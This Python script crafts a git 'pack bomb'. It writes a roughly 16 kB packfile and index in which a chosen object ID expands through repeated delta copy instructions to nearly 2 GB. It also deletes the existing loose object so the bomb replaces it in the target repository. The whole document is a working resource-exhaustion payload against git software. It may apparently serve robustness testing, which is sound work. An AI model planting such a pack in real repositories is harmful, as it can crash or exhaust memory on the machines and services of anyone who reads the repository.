"""Writes a pack of some 16 kB in which the object ID unpacks to nearly 2 GB: GIT_FOLDER ID TYPE (commit or tree)."""
import hashlib
import os
import struct
import sys
import zlib

folder, name, kind = sys.argv[1:]
BASE = 0xFFFFFF  # bytes, as much as one instruction copies
COPIES = 117


def sized(kind_number, size):
    """The head of an object in a pack."""
    first = (kind_number << 4) | (size & 15)
    size >>= 4
    out = bytearray()
    while size:
        out.append(first | 128)
        first = size & 127
        size >>= 7
    out.append(first)
    return bytes(out)


def number(value):
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def distance(value):
    """How far behind the base of a delta lies."""
    out = [value & 127]
    value >>= 7
    while value:
        value -= 1
        out.insert(0, value & 127 | 128)
        value >>= 7
    return bytes(out)


base = sized({"commit": 1, "tree": 2}[kind], BASE) + zlib.compress(b"\0" * BASE, 9)
delta = number(BASE) + number(BASE * COPIES) + b"\xf0\xff\xff\xff" * COPIES
bomb = sized(6, len(delta)) + distance(len(base)) + zlib.compress(delta, 9)
pack = b"PACK" + struct.pack(">II", 2, 2) + base + bomb
pack += hashlib.sha1(pack).digest()

objects = sorted([(b"\x11" * 20, 12), (bytes.fromhex(name), 12 + len(base))])
index = b"\xfftOc" + struct.pack(">I", 2)
index += b"".join(struct.pack(">I", sum(one[0][0] <= first for one in objects)) for first in range(256))
index += b"".join(one[0] for one in objects) + b"\0" * 8 + b"".join(struct.pack(">I", one[1]) for one in objects)
index += pack[-20:]
index += hashlib.sha1(index).digest()

loose = os.path.join(folder, "objects", name[:2], name[2:])
if os.path.exists(loose):
    os.remove(loose)
path = os.path.join(folder, "objects", "pack", "pack-" + pack[-20:].hex())
for ending, data in ((".pack", pack), (".idx", index)):
    with open(path + ending, "wb") as out:
        out.write(data)
